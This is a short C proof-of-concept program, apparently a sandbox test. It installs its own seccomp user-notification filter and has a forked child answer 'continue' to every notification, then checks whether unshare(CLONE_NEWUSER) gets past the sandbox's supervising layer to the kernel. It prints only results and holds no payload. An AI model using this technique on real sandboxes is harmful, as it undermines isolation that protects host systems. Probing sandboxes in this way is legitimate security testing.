/* A program's own seccomp filter with a user-notification listener: its USER_NOTIF outranks the
 * sandbox filter's TRACE, so where the sandbox's filter has no listener of its own, a thread
 * process answering "continue" would let unshare(CLONE_NEWUSER) reach the kernel past the Sentry.
 * Prints what seccomp and then unshare gave. */
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static int listener;

static void answer(void) {
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    for (;;) {
        memset(&req, 0, sizeof req);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
            _exit(0);
        }
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

int main(void) {
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    setvbuf(stdout, NULL, _IOLBF, 0);
    struct sock_fprog prog = {sizeof code / sizeof code[0], code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    listener = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
    if (listener < 0) {
        printf("seccomp listener: %s\n", strerror(errno));
        return 0;
    }
    printf("seccomp listener: ok\n");
    /* the answering side is a child process: unshare(CLONE_NEWUSER) wants a single thread */
    pid_t child = fork();
    if (child == 0) {
        answer();
    }
    printf("unshare(CLONE_NEWUSER): %s\n", unshare(CLONE_NEWUSER) == 0 ? "ok" : strerror(errno));
    kill(child, SIGKILL);
    return 0;
}
